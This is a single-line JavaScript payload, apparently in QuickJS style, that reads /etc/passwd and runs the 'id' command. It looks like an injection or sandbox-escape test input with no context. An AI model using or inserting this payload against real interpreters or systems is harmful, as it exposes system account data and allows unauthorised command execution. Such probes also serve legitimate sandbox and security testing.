() => std.loadFile("/etc/passwd") + os.exec(["id"])
